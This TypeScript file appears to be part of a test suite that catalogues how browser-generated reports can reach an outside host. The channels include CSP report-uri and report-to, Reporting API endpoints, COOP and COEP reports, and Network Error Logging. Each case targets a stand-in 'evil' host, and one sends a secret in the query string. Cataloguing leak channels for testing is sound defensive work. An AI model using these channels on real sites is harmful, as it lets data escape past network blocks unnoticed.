// Ways by reports that a browser sends of its own: CSP, Reporting API, network errors, and their older forms.
import { inFamily, type Way } from '../way.ts';

const way = inFamily('report', 'report', { windowMs: 1_500 });
const image = '<img src="http://blocked.invalid/x" alt="">';

export const REPORT: readonly Way[] = [
  way('csp', 'report-uri of a policy', () => image, {
    headers: (a) => ({ 'content-security-policy': `img-src 'none'; report-uri ${a.evil()}` }),
  }),
  way('csp-only', 'report-uri of a policy that only reports', () => image, {
    headers: (a) => ({ 'content-security-policy-report-only': `img-src 'none'; report-uri ${a.evil()}` }),
  }),
  way('csp-own', 'report-uri of the site that redirects', () => image, {
    headers: (a) => ({ 'content-security-policy': `img-src 'none'; report-uri ${a.site('go')}` }),
    routes: (a) => ({ go: { status: 307, headers: { location: a.evil() } } }),
  }),
  way('csp-frame', 'report-uri of a frame’s policy', (a) => `<iframe src="${a.site('f')}"></iframe>`, {
    alone: true,
    routes: (a) => ({
      f: { headers: { 'content-security-policy': `img-src 'none'; report-uri ${a.evil()}` }, body: image },
    }),
  }),
  way('csp-data', 'report-uri with data in its query', () => image, {
    headers: (a) => ({ 'content-security-policy': `img-src 'none'; report-uri ${a.evil('?secret=4711')}` }),
  }),
  way('csp-to', 'report-to of a policy', () => image, {
    headers: (a) => ({
      'reporting-endpoints': `e="${a.evil('x', 'https')}"`,
      'content-security-policy': `img-src 'none'; report-to e`,
    }),
  }),
  way('worker-csp', 'report-uri of a worker’s policy', (a) => a.script(`new Worker('${a.site('w.js')}')`), {
    alone: true,
    routes: (a) => ({
      'w.js': {
        headers: {
          'content-type': 'text/javascript',
          'content-security-policy': `connect-src 'none'; report-uri ${a.evil()}`,
        },
        body: `fetch('/x').catch(() => {})`,
      },
    }),
  }),
  way(
    'permissions',
    'reports of a permissions policy',
    (a) => a.script(`navigator.geolocation.getCurrentPosition(() => {})`),
    {
      headers: (a) => ({
        'reporting-endpoints': `default="${a.evil('x', 'https')}"`,
        'permissions-policy': 'geolocation=();report-to=default',
      }),
    },
  ),
  way(
    'deprecation',
    'reports of deprecations',
    (a) => a.script(`const x = new XMLHttpRequest(); x.open('GET', '/r/${a.id}/x', false); x.send()`),
    { headers: (a) => ({ 'reporting-endpoints': `default="${a.evil('x', 'https')}"` }) },
  ),
  way('coop', 'reports of an opener policy', (a) => a.script(`location.href = '${a.evil('x', 'https')}'`), {
    headers: (a) => ({
      'cross-origin-opener-policy': `same-origin; report-to="e"`,
      'reporting-endpoints': `e="${a.evil('x', 'https')}"`,
    }),
  }),
  way('coep', 'reports of an embedder policy', () => image, {
    headers: (a) => ({
      'cross-origin-embedder-policy-report-only': `require-corp; report-to="e"`,
      'reporting-endpoints': `e="${a.evil('x', 'https')}"`,
    }),
  }),
  way('nel', 'network error logging', (a) => a.script(`fetch('/gone').catch(() => {})`), {
    headers: (a) => ({
      'report-to': JSON.stringify({ group: 'n', max_age: 600, endpoints: [{ url: a.evil('x', 'https') }] }),
      nel: JSON.stringify({ report_to: 'n', max_age: 600, success_fraction: 1, failure_fraction: 1 }),
    }),
  }),
  way(
    'meta-csp',
    'a policy in a meta element with foreign sources',
    (a) => `<meta http-equiv="content-security-policy" content="img-src *"><img src="${a.evil()}" alt="">`,
    { alone: true },
  ),
];
